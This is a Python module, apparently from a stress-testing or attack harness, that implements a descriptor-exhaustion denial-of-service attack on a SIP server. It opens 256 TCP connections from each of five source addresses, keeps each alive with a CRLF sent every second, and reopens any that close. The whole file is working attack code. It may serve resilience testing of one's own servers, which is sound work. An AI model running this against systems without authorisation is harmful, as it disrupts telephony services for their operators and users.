"""Connections of strangers: many, silent, half open."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time

from hostile.attack import Attack, Report, Target
from hostile.network import SOURCES

CONNECTIONS_EACH = 256
SOURCES_COUNT = 5


async def _descriptors(target: Target) -> Report:
    """Hold as many connections as can be had, send CRLF on each once a second, open again what was closed."""
    loop = asyncio.get_running_loop()
    until = time.monotonic() + target.seconds
    opened = 0

    async def one(source: str) -> None:
        nonlocal opened
        while time.monotonic() < until:
            with contextlib.suppress(OSError), socket.socket() as stream:
                stream.setblocking(False)
                stream.bind((source, 0))
                await loop.sock_connect(stream, (target.server, target.sip_port))
                opened += 1
                while time.monotonic() < until:
                    await loop.sock_sendall(stream, b"\r\n\r\n")
                    await asyncio.sleep(1.0)
            await asyncio.sleep(1.0)

    async with asyncio.timeout(target.seconds + 2), asyncio.TaskGroup() as group:
        for source in SOURCES[:SOURCES_COUNT]:
            for _ in range(CONNECTIONS_EACH):
                group.create_task(one(source))
    return {"connections_opened": opened}


ATTACKS = (
    Attack(
        "descriptors",
        "2",
        "5 sources x 256 TCP connections at the SIP port that send CRLF each second",
        _descriptors,
        quick=True,
    ),
)
